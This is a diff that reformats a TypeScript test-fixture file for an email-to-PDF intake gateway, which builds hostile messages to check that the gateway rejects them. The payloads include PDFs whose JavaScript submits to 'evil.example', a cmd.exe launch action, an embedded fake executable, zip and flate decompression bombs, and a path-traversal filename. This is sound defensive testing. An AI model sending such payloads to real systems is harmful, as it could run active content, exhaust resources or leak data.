@@ -6,15 +6,15 @@
 import { randomBytes, randomUUID } from 'node:crypto';
 import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
-import { createDeflate, createDeflateRaw, crc32 } from 'node:zlib';
+import { crc32, createDeflate, createDeflateRaw } from 'node:zlib';
 import { dkimSign } from 'mailauth/lib/dkim/sign.js';
 import { loadKeys, SIGNERS, type Signer } from '../../fixtures/keys.js';
-import { attachmentPart, message, multipartBody, textPart, type Attachment, type Part } from '../../fixtures/mime.js';
+import { type Attachment, attachmentPart, message, multipartBody, type Part, textPart } from '../../fixtures/mime.js';
 import { buildPdf, buildZip } from '../../fixtures/pdf.js';
-import { deepNesting, manyObjects, metadataBomb, objectStreamBomb } from './pdf-bombs.js';
-import { letterDoc, save } from './pdf-samples.js';
 import type { RejectionReason } from '../../src/errors.js';
 import { FIXTURE_DIR } from './gateway.js';
+import { deepNesting, manyObjects, metadataBomb, objectStreamBomb } from './pdf-bombs.js';
+import { letterDoc, save } from './pdf-samples.js';
 
 const KEYS = loadKeys(join(FIXTURE_DIR, 'keys'));
 const MiB = 1024 * 1024;
@@ -39,12 +39,14 @@ export async function signAs(raw: string | Buffer, signer: Signer = SIGNERS.acme
   const { signatures, errors } = await dkimSign(bytes, {
     canonicalization: options.canonicalization ?? 'relaxed/relaxed',
     signTime: new Date(),
-    signatureData: [{
-      signingDomain: signer.domain,
-      selector: signer.selector,
-      privateKey: KEYS[signer.key].privatePem,
-      ...(options.maxBodyLength === undefined ? {} : { maxBodyLength: options.maxBodyLength }),
-    }],
+    signatureData: [
+      {
+        signingDomain: signer.domain,
+        selector: signer.selector,
+        privateKey: KEYS[signer.key].privatePem,
+        ...(options.maxBodyLength === undefined ? {} : { maxBodyLength: options.maxBodyLength }),
+      },
+    ],
   });
   if (errors.length > 0 || signatures === '') throw new Error(`signing failed: ${JSON.stringify(errors)}`);
   return Buffer.concat([Buffer.from(signatures, 'latin1'), bytes]);
@@ -112,8 +114,12 @@ export function encryptedPdf(): Buffer {
   const cipher = randomBytes(64).toString('latin1');
   const hex = (n: number) => randomBytes(n).toString('hex');
   return pdfOf(
-    ['<< /Type /Catalog /Pages 2 0 R >>', ...PAGES, `<< /Length ${cipher.length} >>\nstream\n${cipher}\nendstream`,
-      `<< /Filter /Standard /V 2 /R 3 /Length 128 /O <${hex(32)}> /U <${hex(32)}> /P -3904 >>`],
+    [
+      '<< /Type /Catalog /Pages 2 0 R >>',
+      ...PAGES,
+      `<< /Length ${cipher.length} >>\nstream\n${cipher}\nendstream`,
+      `<< /Filter /Standard /V 2 /R 3 /Length 128 /O <${hex(32)}> /U <${hex(32)}> /P -3904 >>`,
+    ],
     ` /Encrypt 5 0 R /ID [<${hex(16)}> <${hex(16)}>]`,
   );
 }
@@ -123,14 +129,18 @@ export function javascriptPdf(): Buffer {
   const js = "app.alert('hostile'); this.submitForm('http://evil.example/');".replace(/[()\\]/g, (c) => `\\${c}`);
   return pdfOf([
     '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript << /Names [(init) 5 0 R] >> >> >>',
-    ...PAGES, '<< /Length 0 >>\nstream\n\nendstream', `<< /S /JavaScript /JS (${js}) >>`,
+    ...PAGES,
+    '<< /Length 0 >>\nstream\n\nendstream',
+    `<< /S /JavaScript /JS (${js}) >>`,
   ]);
 }
 
 /** A letter carrying an executable as an embedded file (pdf-lib's attach). */
 async function embeddedExePdf(): Promise<Buffer> {
   const doc = await letterDoc();
-  await doc.attach(Buffer.concat([Buffer.from('MZ\x90\x00', 'latin1'), randomBytes(256)]), 'setup.exe', { mimeType: 'application/x-msdownload' });
+  await doc.attach(Buffer.concat([Buffer.from('MZ\x90\x00', 'latin1'), randomBytes(256)]), 'setup.exe', {
+    mimeType: 'application/x-msdownload',
+  });
   return save(doc);
 }
 
@@ -153,7 +163,11 @@ async function deflated(totalBytes: number, raw: boolean): Promise<{ data: Buffe
 /** A PDF whose page content is a FlateDecode stream inflating to `inflatedBytes` of zeros. */
 export async function flateBombPdf(inflatedBytes: number): Promise<Buffer> {
   const { data } = await deflated(inflatedBytes, false);
-  return pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', ...PAGES, `<< /Length ${data.length} /Filter /FlateDecode >>\nstream\n${data.toString('latin1')}\nendstream`]);
+  return pdfOf([
+    '<< /Type /Catalog /Pages 2 0 R >>',
+    ...PAGES,
+    `<< /Length ${data.length} /Filter /FlateDecode >>\nstream\n${data.toString('latin1')}\nendstream`,
+  ]);
 }
 
 let zipBombCache: Promise<Buffer> | undefined;
@@ -209,7 +223,10 @@ export interface HostileCase {
 const accepted = (worker: 'submitted' | RejectionReason): Expectation => ({ smtp: 'accepted', worker });
 const lineTooLong: Expectation = { smtp: 'refused', reply: /^554 5\.6\.0 message has a line longer than/ };
 /** Refused at end of DATA by one of the message's own rules, named at the start of the reply. */
-const inSession = (rule: 'NotAPdf' | 'NoPdfAttachment' | 'UnparseableMessage'): Expectation => ({ smtp: 'refused', reply: new RegExp(`^550 5\\.6\\.0 ${rule}: `) });
+const inSession = (rule: 'NotAPdf' | 'NoPdfAttachment' | 'UnparseableMessage'): Expectation => ({
+  smtp: 'refused',
+  reply: new RegExp(`^550 5\\.6\\.0 ${rule}: `),
+});
 const signed = (raw: () => string | Buffer | Promise<string | Buffer>) => async () => signAs(await raw());
 
 function nestedMultipart(depth: number): string {
@@ -229,7 +246,11 @@ function withParts(parts: readonly Part[], headers: readonly string[] = headerFi
 
 function fakePdfPart(body: string): Part {
   return {
-    headers: ['Content-Type: application/pdf; name="statement.pdf"', 'Content-Transfer-Encoding: base64', 'Content-Disposition: attachment; filename="statement.pdf"'],
+    headers: [
+      'Content-Type: application/pdf; name="statement.pdf"',
+      'Content-Transfer-Encoding: base64',
+      'Content-Disposition: attachment; filename="statement.pdf"',
+    ],
     body,
   };
 }
@@ -240,60 +261,247 @@ export function malformedCases(maxMessageBytes: number): readonly HostileCase[] 
   return [
     // mailparser's splitter stops at 1 MiB of header per MIME node and 1,000 child nodes: the
     // listener's walk (the same splitter) refuses these as UnparseableMessage, never a crash.
-    { name: 'header-block-1.1MB-folded', exercises: '1,100 folded header fields, 1.1 MB of header block', expected: inSession('UnparseableMessage'), build: signed(() => letter({ headers: folded })) },
-    { name: 'header-line-1.2MB', exercises: 'one unfolded header line of 1.2 MB', expected: lineTooLong, build: signed(() => letter({ headers: filler(1, 1_200_000) })) },
-    { name: 'ten-thousand-headers', exercises: '10,000 header fields', expected: accepted('submitted'), build: signed(() => letter({ headers: filler(10_000, 20) })) },
-    { name: 'mime-nesting-200', exercises: 'multipart nested 200 deep, the PDF at the bottom', expected: accepted('submitted'), build: signed(() => nestedMultipart(200)) },
     {
-      name: 'five-thousand-parts', exercises: '5,000 attachments (4,999 octet-stream + 1 PDF)', expected: inSession('UnparseableMessage'),
-      build: signed(() => withParts([textPart(bodyText()), ...Array.from({ length: 4999 }, (_, i) => attachmentPart({ contentType: 'application/octet-stream', fileName: `part-${i}.bin`, data: Buffer.from(`p${i}`) })), attachmentPart(pdf('letter.pdf'))])),
+      name: 'header-block-1.1MB-folded',
+      exercises: '1,100 folded header fields, 1.1 MB of header block',
+      expected: inSession('UnparseableMessage'),
+      build: signed(() => letter({ headers: folded })),
     },
     {
-      name: 'boundary-never-closed', exercises: 'the closing --boundary-- never comes', expected: accepted('submitted'),
+      name: 'header-line-1.2MB',
+      exercises: 'one unfolded header line of 1.2 MB',
+      expected: lineTooLong,
+      build: signed(() => letter({ headers: filler(1, 1_200_000) })),
+    },
+    {
+      name: 'ten-thousand-headers',
+      exercises: '10,000 header fields',
+      expected: accepted('submitted'),
+      build: signed(() => letter({ headers: filler(10_000, 20) })),
+    },
+    {
+      name: 'mime-nesting-200',
+      exercises: 'multipart nested 200 deep, the PDF at the bottom',
+      expected: accepted('submitted'),
+      build: signed(() => nestedMultipart(200)),
+    },
+    {
+      name: 'five-thousand-parts',
+      exercises: '5,000 attachments (4,999 octet-stream + 1 PDF)',
+      expected: inSession('UnparseableMessage'),
+      build: signed(() =>
+        withParts([
+          textPart(bodyText()),
+          ...Array.from({ length: 4999 }, (_, i) =>
+            attachmentPart({ contentType: 'application/octet-stream', fileName: `part-${i}.bin`, data: Buffer.from(`p${i}`) }),
+          ),
+          attachmentPart(pdf('letter.pdf')),
+        ]),
+      ),
+    },
+    {
+      name: 'boundary-never-closed',
+      exercises: 'the closing --boundary-- never comes',
+      expected: accepted('submitted'),
       build: signed(() => letter().replace(/--b-[0-9a-f-]+--\r\n$/, '')),
     },
-    { name: 'invalid-base64', exercises: 'a PDF part whose base64 is not base64', expected: inSession('NotAPdf'), build: signed(() => withParts([textPart(bodyText()), fakePdfPart('!!!! this is *not* base64 at all ####\r\n@@@@ %%%% ^^^^')])) },
     {
-      name: 'truncated-base64-pdf', exercises: 'a PDF cut mid-quantum: starts with %PDF-, parses as nothing', expected: accepted('PdfDamaged'),
+      name: 'invalid-base64',
+      exercises: 'a PDF part whose base64 is not base64',
+      expected: inSession('NotAPdf'),
+      build: signed(() => withParts([textPart(bodyText()), fakePdfPart('!!!! this is *not* base64 at all ####\r\n@@@@ %%%% ^^^^')])),
+    },
+    {
+      name: 'truncated-base64-pdf',
+      exercises: 'a PDF cut mid-quantum: starts with %PDF-, parses as nothing',
+      expected: accepted('PdfDamaged'),
       build: signed(() => withParts([textPart(bodyText()), fakePdfPart(buildPdf('cut').toString('base64').slice(0, 201))])),
     },
     {
-      name: 'nul-bytes', exercises: 'NUL in Subject, body text and PDF file name', expected: accepted('submitted'),
-      build: signed(() => letter({ subject: 'Invoice\u0000 with NUL', text: `${bodyText()}nul\u0000here\n`, attachments: [pdf('in\u0000voice.pdf')] })),
+      name: 'nul-bytes',
+      exercises: 'NUL in Subject, body text and PDF file name',
+      expected: accepted('submitted'),
+      build: signed(() =>
+        letter({ subject: 'Invoice\u0000 with NUL', text: `${bodyText()}nul\u0000here\n`, attachments: [pdf('in\u0000voice.pdf')] }),
+      ),
     },
     {
-      name: 'traversal-control-filename', exercises: 'attachment named ../../etc/cron.d/x with control characters', expected: accepted('submitted'),
+      name: 'traversal-control-filename',
+      exercises: 'attachment named ../../etc/cron.d/x with control characters',
+      expected: accepted('submitted'),
       build: signed(() => letter({ attachments: [pdf('../../etc/cron.d/\u0007evil\u001b[2J\r\n.pdf')] })),
     },
-    { name: 'html-named-pdf', exercises: 'application/pdf named .pdf, content is HTML', expected: inSession('NotAPdf'), build: signed(() => letter({ attachments: [pdf('statement.pdf', Buffer.from('<html><script>alert(1)</script></html>'))] })) },
-    { name: 'exe-as-octet-stream-pdf', exercises: 'octet-stream named .pdf, content is an MZ executable', expected: inSession('NotAPdf'), build: signed(() => letter({ attachments: [pdf('invoice.pdf', Buffer.concat([Buffer.from('MZ\x90\x00', 'latin1'), randomBytes(512)]), 'application/octet-stream')] })) },
+    {
+      name: 'html-named-pdf',
+      exercises: 'application/pdf named .pdf, content is HTML',
+      expected: inSession('NotAPdf'),
+      build: signed(() => letter({ attachments: [pdf('statement.pdf', Buffer.from('<html><script>alert(1)</script></html>'))] })),
+    },
+    {
+      name: 'exe-as-octet-stream-pdf',
+      exercises: 'octet-stream named .pdf, content is an MZ executable',
+      expected: inSession('NotAPdf'),
+      build: signed(() =>
+        letter({
+          attachments: [
+            pdf('invoice.pdf', Buffer.concat([Buffer.from('MZ\x90\x00', 'latin1'), randomBytes(512)]), 'application/octet-stream'),
+          ],
+        }),
+      ),
+    },
     // The deep PDF checks (src/pdf) open every PDF in a checker thread bounded in time and memory:
     // a password, damage or active content rejects the intake; a bomb ends as PdfDamaged (too
     // complex). Page content is never decoded (nothing is rendered), so a Flate bomb there is a
     // valid PDF and is submitted; archives are ignored attachments, never unpacked.
-    { name: 'encrypted-pdf', exercises: '%PDF- with a standard-security /Encrypt dictionary (a user password)', expected: accepted('PdfPasswordProtected'), build: signed(() => letter({ attachments: [pdf('encrypted.pdf', encryptedPdf())] })) },
-    { name: 'javascript-pdf', exercises: '%PDF- with /OpenAction JavaScript', expected: accepted('PdfActiveContent'), build: signed(() => letter({ attachments: [pdf('script.pdf', javascriptPdf())] })) },
-    { name: 'launch-pdf', exercises: '%PDF- whose open action launches cmd.exe', expected: accepted('PdfActiveContent'), build: signed(() => letter({ attachments: [pdf('launch.pdf', pdfOf(['<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /Win << /F (cmd.exe) >> >> >>', ...PAGES, '<< /Length 0 >>\nstream\n\nendstream']))] })) },
-    { name: 'embedded-exe-pdf', exercises: '%PDF- carrying setup.exe as an embedded file', expected: accepted('PdfActiveContent'), build: signed(async () => letter({ attachments: [pdf('invoice.pdf', await embeddedExePdf())] })) },
-    { name: 'flate-bomb-pdf', exercises: '%PDF- whose content stream inflates to 256 MiB', expected: accepted('submitted'), build: signed(async () => letter({ attachments: [pdf('bomb.pdf', await flateBombPdf(256 * MiB))] })) },
-    { name: 'object-stream-bomb-pdf', exercises: '%PDF- with an object stream inflating to 1 GiB', expected: accepted('PdfDamaged'), build: signed(async () => letter({ attachments: [pdf('objects.pdf', await objectStreamBomb(1024 * MiB))] })) },
-    { name: 'metadata-bomb-pdf', exercises: '%PDF- whose XMP metadata inflates to 1 GiB', expected: accepted('PdfDamaged'), build: signed(async () => letter({ attachments: [pdf('metadata.pdf', await metadataBomb(1024 * MiB))] })) },
-    { name: 'deep-nesting-pdf', exercises: '%PDF- with arrays nested 100,000 deep', expected: accepted('PdfDamaged'), build: signed(() => letter({ attachments: [pdf('deep.pdf', deepNesting(100_000))] })) },
-    { name: 'many-objects-pdf', exercises: '%PDF- with 50,000 objects (3 MB): valid, read within the limits', expected: accepted('submitted'), build: signed(() => letter({ attachments: [pdf('many.pdf', manyObjects(50_000))] })) },
-    { name: 'zip-bomb-beside-pdf', exercises: 'application/zip inflating to 1 GiB, next to a real PDF', expected: accepted('submitted'), build: signed(async () => letter({ attachments: [pdf('letter.pdf'), { contentType: 'application/zip', fileName: 'bomb.zip', data: await zipBomb() }] })) },
-    { name: 'zip-bomb-named-pdf', exercises: 'the 1 GiB zip bomb typed application/pdf', expected: inSession('NotAPdf'), build: signed(async () => letter({ attachments: [pdf('bomb.pdf', await zipBomb())] })) },
-    { name: 'zip-named-pdf', exercises: 'a small ZIP typed application/pdf', expected: inSession('NotAPdf'), build: signed(() => letter({ attachments: [pdf('contract.pdf', buildZip('contract.txt', 'not a pdf'))] })) },
-    { name: 'pdf-inside-message-rfc822', exercises: 'the only PDF sits in a forwarded message/rfc822', expected: inSession('NoPdfAttachment'), build: signed(() => withParts([textPart(bodyText()), { headers: ['Content-Type: message/rfc822'], body: letter() }])) },
-    { name: 'multipart-without-boundary', exercises: 'multipart/mixed with no boundary parameter', expected: inSession('NoPdfAttachment'), build: signed(() => message([...headerFields(), 'Content-Type: multipart/mixed'], letter().split('\r\n\r\n').slice(1).join('\r\n\r\n'))) },
-    { name: 'headers-only', exercises: 'no empty line, no body', expected: inSession('NoPdfAttachment'), build: signed(() => `${headerFields().join('\r\n')}\r\n`) },
-    { name: 'raw-8bit-garbage-headers', exercises: 'invalid UTF-8 and latin1 bytes in Subject and a custom field', expected: accepted('submitted'), build: signed(() => Buffer.from(letter({ subject: 'Rechnung \xff\xfe\xc3\x28 M\xe4rz', headers: ['X-Junk: \x80\x81\x82\xc0\xaf'] }), 'latin1')) },
-    { name: 'twenty-one-pdfs', exercises: '21 PDFs: one more than the API takes per letter', expected: accepted('ApiRejected'), build: signed(() => letter({ attachments: Array.from({ length: 21 }, (_, i) => pdf(`page-${i}.pdf`)) })) },
-    { name: 'one-megabyte-body-line', exercises: 'a text line of 1,000,000 bytes: under the line cap, over the API description cap', expected: accepted('ApiRejected'), build: signed(() => letter({ text: `${bodyText()}${'x'.repeat(1_000_000)}\n` })) },
-    { name: 'two-megabyte-body-line', exercises: 'a text line of 2 MB: over the 1 MiB line cap', expected: lineTooLong, build: signed(() => letter({ text: `${bodyText()}${'x'.repeat(2_000_000)}\n` })) },
-    { name: 'subject-600-chars', exercises: 'a subject longer than the API title cap (500)', expected: accepted('ApiRejected'), build: signed(() => letter({ subject: 'S'.repeat(600) })) },
-    { name: 'empty-message', exercises: 'DATA with no bytes at all (unsignable)', expected: { smtp: 'refused', reply: /^550 5\.7\.1 .*From/ }, build: async () => Buffer.alloc(0) },
     {
-      name: 'over-max-message-bytes', exercises: 'one byte over MAX_MESSAGE_BYTES', expected: { smtp: 'refused', reply: /^552 5\.3\.4 / },
+      name: 'encrypted-pdf',
+      exercises: '%PDF- with a standard-security /Encrypt dictionary (a user password)',
+      expected: accepted('PdfPasswordProtected'),
+      build: signed(() => letter({ attachments: [pdf('encrypted.pdf', encryptedPdf())] })),
+    },
+    {
+      name: 'javascript-pdf',
+      exercises: '%PDF- with /OpenAction JavaScript',
+      expected: accepted('PdfActiveContent'),
+      build: signed(() => letter({ attachments: [pdf('script.pdf', javascriptPdf())] })),
+    },
+    {
+      name: 'launch-pdf',
+      exercises: '%PDF- whose open action launches cmd.exe',
+      expected: accepted('PdfActiveContent'),
+      build: signed(() =>
+        letter({
+          attachments: [
+            pdf(
+              'launch.pdf',
+              pdfOf([
+                '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /Win << /F (cmd.exe) >> >> >>',
+                ...PAGES,
+                '<< /Length 0 >>\nstream\n\nendstream',
+              ]),
+            ),
+          ],
+        }),
+      ),
+    },
+    {
+      name: 'embedded-exe-pdf',
+      exercises: '%PDF- carrying setup.exe as an embedded file',
+      expected: accepted('PdfActiveContent'),
+      build: signed(async () => letter({ attachments: [pdf('invoice.pdf', await embeddedExePdf())] })),
+    },
+    {
+      name: 'flate-bomb-pdf',
+      exercises: '%PDF- whose content stream inflates to 256 MiB',
+      expected: accepted('submitted'),
+      build: signed(async () => letter({ attachments: [pdf('bomb.pdf', await flateBombPdf(256 * MiB))] })),
+    },
+    {
+      name: 'object-stream-bomb-pdf',
+      exercises: '%PDF- with an object stream inflating to 1 GiB',
+      expected: accepted('PdfDamaged'),
+      build: signed(async () => letter({ attachments: [pdf('objects.pdf', await objectStreamBomb(1024 * MiB))] })),
+    },
+    {
+      name: 'metadata-bomb-pdf',
+      exercises: '%PDF- whose XMP metadata inflates to 1 GiB',
+      expected: accepted('PdfDamaged'),
+      build: signed(async () => letter({ attachments: [pdf('metadata.pdf', await metadataBomb(1024 * MiB))] })),
+    },
+    {
+      name: 'deep-nesting-pdf',
+      exercises: '%PDF- with arrays nested 100,000 deep',
+      expected: accepted('PdfDamaged'),
+      build: signed(() => letter({ attachments: [pdf('deep.pdf', deepNesting(100_000))] })),
+    },
+    {
+      name: 'many-objects-pdf',
+      exercises: '%PDF- with 50,000 objects (3 MB): valid, read within the limits',
+      expected: accepted('submitted'),
+      build: signed(() => letter({ attachments: [pdf('many.pdf', manyObjects(50_000))] })),
+    },
+    {
+      name: 'zip-bomb-beside-pdf',
+      exercises: 'application/zip inflating to 1 GiB, next to a real PDF',
+      expected: accepted('submitted'),
+      build: signed(async () =>
+        letter({ attachments: [pdf('letter.pdf'), { contentType: 'application/zip', fileName: 'bomb.zip', data: await zipBomb() }] }),
+      ),
+    },
+    {
+      name: 'zip-bomb-named-pdf',
+      exercises: 'the 1 GiB zip bomb typed application/pdf',
+      expected: inSession('NotAPdf'),
+      build: signed(async () => letter({ attachments: [pdf('bomb.pdf', await zipBomb())] })),
+    },
+    {
+      name: 'zip-named-pdf',
+      exercises: 'a small ZIP typed application/pdf',
+      expected: inSession('NotAPdf'),
+      build: signed(() => letter({ attachments: [pdf('contract.pdf', buildZip('contract.txt', 'not a pdf'))] })),
+    },
+    {
+      name: 'pdf-inside-message-rfc822',
+      exercises: 'the only PDF sits in a forwarded message/rfc822',
+      expected: inSession('NoPdfAttachment'),
+      build: signed(() => withParts([textPart(bodyText()), { headers: ['Content-Type: message/rfc822'], body: letter() }])),
+    },
+    {
+      name: 'multipart-without-boundary',
+      exercises: 'multipart/mixed with no boundary parameter',
+      expected: inSession('NoPdfAttachment'),
+      build: signed(() =>
+        message([...headerFields(), 'Content-Type: multipart/mixed'], letter().split('\r\n\r\n').slice(1).join('\r\n\r\n')),
+      ),
+    },
+    {
+      name: 'headers-only',
+      exercises: 'no empty line, no body',
+      expected: inSession('NoPdfAttachment'),
+      build: signed(() => `${headerFields().join('\r\n')}\r\n`),
+    },
+    {
+      name: 'raw-8bit-garbage-headers',
+      exercises: 'invalid UTF-8 and latin1 bytes in Subject and a custom field',
+      expected: accepted('submitted'),
+      build: signed(() =>
+        Buffer.from(letter({ subject: 'Rechnung \xff\xfe\xc3\x28 M\xe4rz', headers: ['X-Junk: \x80\x81\x82\xc0\xaf'] }), 'latin1'),
+      ),
+    },
+    {
+      name: 'twenty-one-pdfs',
+      exercises: '21 PDFs: one more than the API takes per letter',
+      expected: accepted('ApiRejected'),
+      build: signed(() => letter({ attachments: Array.from({ length: 21 }, (_, i) => pdf(`page-${i}.pdf`)) })),
+    },
+    {
+      name: 'one-megabyte-body-line',
+      exercises: 'a text line of 1,000,000 bytes: under the line cap, over the API description cap',
+      expected: accepted('ApiRejected'),
+      build: signed(() => letter({ text: `${bodyText()}${'x'.repeat(1_000_000)}\n` })),
+    },
+    {
+      name: 'two-megabyte-body-line',
+      exercises: 'a text line of 2 MB: over the 1 MiB line cap',
+      expected: lineTooLong,
+      build: signed(() => letter({ text: `${bodyText()}${'x'.repeat(2_000_000)}\n` })),
+    },
+    {
+      name: 'subject-600-chars',
+      exercises: 'a subject longer than the API title cap (500)',
+      expected: accepted('ApiRejected'),
+      build: signed(() => letter({ subject: 'S'.repeat(600) })),
+    },
+    {
+      name: 'empty-message',
+      exercises: 'DATA with no bytes at all (unsignable)',
+      expected: { smtp: 'refused', reply: /^550 5\.7\.1 .*From/ },
+      build: async () => Buffer.alloc(0),
+    },
+    {
+      name: 'over-max-message-bytes',
+      exercises: 'one byte over MAX_MESSAGE_BYTES',
+      expected: { smtp: 'refused', reply: /^552 5\.3\.4 / },
       build: signed(() => {
         const base = letter();
         const lines = `${'y'.repeat(76)}\r\n`.repeat(Math.ceil((maxMessageBytes - base.length + 1) / 78));
@@ -321,7 +529,10 @@ export function peerMessages(dir: string, files: readonly string[]): PeerMessage
  * and Message-ID field replaced by ours, then signed by acme.example. The rest is untouched.
  */
 export async function resignAsAcme(raw: Buffer, label: string): Promise<Buffer> {
-  const text = raw.toString('latin1').replace(/\r?\n/g, '\r\n').replace(/^From [^\r\n]*\r\n/, '');
+  const text = raw
+    .toString('latin1')
+    .replace(/\r?\n/g, '\r\n')
+    .replace(/^From [^\r\n]*\r\n/, '');
   const split = text.indexOf('\r\n\r\n');
   const head = split === -1 ? text : text.slice(0, split + 2);
   const rest = split === -1 ? '' : text.slice(split + 2);
